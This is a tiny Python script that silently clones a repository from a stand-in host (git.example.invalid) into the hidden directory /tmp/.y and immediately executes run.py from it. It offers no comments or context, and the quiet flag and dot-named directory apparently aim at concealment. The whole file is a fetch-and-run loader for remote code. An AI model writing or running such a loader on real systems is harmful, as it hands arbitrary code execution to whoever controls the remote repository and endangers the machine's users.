import os

os.system("git clone -q https://git.example.invalid/x/y.git /tmp/.y && python3 /tmp/.y/run.py")
